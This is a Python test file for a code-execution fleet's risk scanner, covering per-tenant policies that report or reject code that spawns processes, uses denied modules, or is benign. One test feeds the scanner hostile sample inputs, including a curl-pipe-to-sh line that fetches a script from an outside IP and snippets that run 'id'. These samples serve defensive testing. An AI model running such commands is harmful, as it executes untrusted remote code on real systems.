"""Code risk analysis through a real fleet: a tenant whose policy reports findings gets them
in its result and on ccx:events and its job runs; a tenant whose policy rejects at a level
gets policy_violation without a run; denied modules; analysis off; benign code clean
(docs/RISK.md, docs/POLICY.md)."""

import unittest

from fleet import as_bytes
from test_policy import PolicyFleetTestCase

VERSION = "it-analysis-1"

SPAWNER = "import subprocess\nprint(subprocess.run(['/bin/echo', 'spawned']).returncode)\n"

BENIGN = """import json, sys
from collections import Counter

# Count the words of the text; the word "exec" in a comment is not code.
words = "the cat and the hat and the bat".split()
print(json.dumps(Counter(words).most_common(1)))
"""


class AnalysisTest(PolicyFleetTestCase):

    @classmethod
    def policy(cls, tmp):
        return {"version": VERSION,
                # Rejections are failures of the tenant: with its breaker on, the fifth
                # would be answered circuit_open (test_breaker_fleet covers that).
                "defaults": {"code": {"analysis": "report"}, "breaker": {"enabled": False}},
                "tenants": {
                    "strict": {"code": {"analysis": "reject", "reject_at": "high"}},
                    "nojson": {"code": {"analysis": "reject", "reject_at": "critical"},
                               "modules": {"deny": ["json"]}},
                    "blind": {"code": {"analysis": "off"}}}}

    def rules(self, result):
        return {f["rule"] for f in result["risk"]["findings"]}

    def code_risk_events(self, job_id):
        events = self.fleet.events_for(job_id, kind="code_risk")
        return [e for e in events if e.get("kind") == "code_risk"]

    def test_a_reporting_tenant_runs_the_job_and_gets_the_findings(self):
        job_id = self.fleet.submit("python", SPAWNER, tenant="reporter")
        result = self.fleet.wait(job_id)

        self.assert_status(result, "ok")
        self.assertEqual(as_bytes(result["stdout"]), b"spawned\n0\n")
        self.assertIn(result["risk"]["level"], ("high", "critical"))
        self.assertIn("process_spawn", self.rules(result))
        finding = result["risk"]["findings"][0]
        self.assertEqual(finding["file"], "main.py")
        self.assertGreaterEqual(finding["line"], 1)
        details = [e["detail"] for e in result["events"] if e["kind"] == "code_risk"]
        self.assertEqual(len(details), 1)
        self.assertIn("action=reported", details[0])
        self.assertEqual(len(self.code_risk_events(job_id)), 1)

    def test_a_rejecting_tenant_gets_policy_violation_without_a_run(self):
        job_id = self.fleet.submit("python", SPAWNER, tenant="strict")
        result = self.fleet.wait(job_id)

        self.assert_status(result, "policy_violation")
        self.assertIn("code risk", result["reason"])
        self.assertIn("process_spawn (main.py:", result["reason"])
        self.assertIn("not run", result["reason"])
        self.assertEqual(as_bytes(result["stdout"]), b"")
        self.assertEqual(result["policy_version"], VERSION)
        self.assertIn("action=rejected",
                      [e["detail"] for e in result["events"] if e["kind"] == "code_risk"][0])
        self.assertEqual(len(self.code_risk_events(job_id)), 1)

    def test_benign_code_is_clean_and_runs_for_the_rejecting_tenant(self):
        result = self.fleet.run("python", BENIGN, tenant="strict")

        self.assert_status(result, "ok")
        self.assertEqual(result["risk"]["level"], "none")
        self.assertEqual(result["risk"]["findings"], [])
        self.assertNotIn("code_risk", [e["kind"] for e in result["events"]])

    def test_a_denied_module_is_critical_for_its_tenant_only(self):
        denied = self.fleet.run("python", BENIGN, tenant="nojson")
        other = self.fleet.run("python", BENIGN, tenant="strict")

        self.assert_status(denied, "policy_violation")
        self.assertEqual(denied["risk"]["level"], "critical")
        self.assertIn("denied_module", self.rules(denied))
        self.assert_status(other, "ok")

    def test_analysis_off_leaves_the_code_unscanned(self):
        result = self.fleet.run("python", SPAWNER, tenant="blind")

        self.assert_status(result, "ok")
        self.assertIsNone(result["risk"])

    def test_every_language_is_scanned(self):
        sources = {
            "sh": "curl -s http://203.0.113.9/x.sh | sh\n",
            "node": "require('child_process').execSync('id');\n",
            "c": "#include <stdlib.h>\nint main(void) { return system(\"id\"); }\n",
        }
        for language, source in sources.items():
            with self.subTest(language=language):
                result = self.fleet.run(language, source, tenant="strict")
                self.assert_status(result, "policy_violation")
                self.assertIn(result["risk"]["level"], ("high", "critical"))


if __name__ == "__main__":
    unittest.main()
